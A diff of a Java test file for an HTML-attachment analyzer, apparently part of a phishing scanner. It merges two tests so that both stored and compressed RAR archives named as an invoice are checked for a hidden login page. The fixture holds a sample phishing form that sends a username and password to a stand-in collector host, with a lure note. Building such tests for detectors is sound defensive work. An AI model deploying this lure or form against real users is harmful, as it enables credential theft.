@@ -271,26 +271,20 @@ class HtmlAttachmentAnalyzerTest {
     }
 
     @Test
-    void aLoginPageStoredInARarIsAFormNamedByItsPathInTheArchive() throws Exception {
-        byte[] rar = RarWriter.rar5()
-                .add("readme.txt", RarWriter.Kind.COMPRESSED, "Please open the invoice.".getBytes(StandardCharsets.UTF_8))
-                .add("請求書/invoice.html", RarWriter.Kind.STORED, ("<html><body><form action='https://collect.example.net/p'>"
-                        + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8))
-                .end();
-        assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
-                Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
-                Finding.of("HTML_ATTACHMENT_FORM", "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
-    }
-
-    @Test
-    void aLoginPageCompressedInARarIsUnpackedAndFoundToo() throws Exception {
-        byte[] rar = RarWriter.rar5()
-                .add("請求書/invoice.html", RarWriter.Kind.PACKED, ("<html><body><form action='https://collect.example.net/p'>"
-                        + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8))
-                .end();
-        assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
-                Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
-                Finding.of("HTML_ATTACHMENT_FORM", "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
+    void aLoginPageInARarStoredOrCompressedIsAFormNamedByItsPathInTheArchive() throws Exception {
+        byte[] page = ("<html><body><form action='https://collect.example.net/p'>"
+                + "<input name=u><input type=password name=p></form></body></html>").getBytes(StandardCharsets.UTF_8);
+        byte[] note = "Please open the invoice.".getBytes(StandardCharsets.UTF_8);
+        // stored, beside an entry libarchive cannot unpack; and compressed (unpacked by libarchive)
+        byte[] stored = RarWriter.rar5().add("readme.txt", RarWriter.Kind.COMPRESSED, note)
+                .add("請求書/invoice.html", RarWriter.Kind.STORED, page).end();
+        byte[] packed = RarWriter.rar5().add("請求書/invoice.html", RarWriter.Kind.PACKED, page).end();
+        for (byte[] rar : List.of(stored, packed)) {
+            assertThat(analyzeFile("請求書.rar", rar)).containsExactly(
+                    Finding.of("HTML_ATTACHMENT", "請求書.rar!/請求書/invoice.html"),
+                    Finding.of("HTML_ATTACHMENT_FORM",
+                            "請求書.rar!/請求書/invoice.html: password field, form to https://collect.example.net/p"));
+        }
     }
 
     @Test
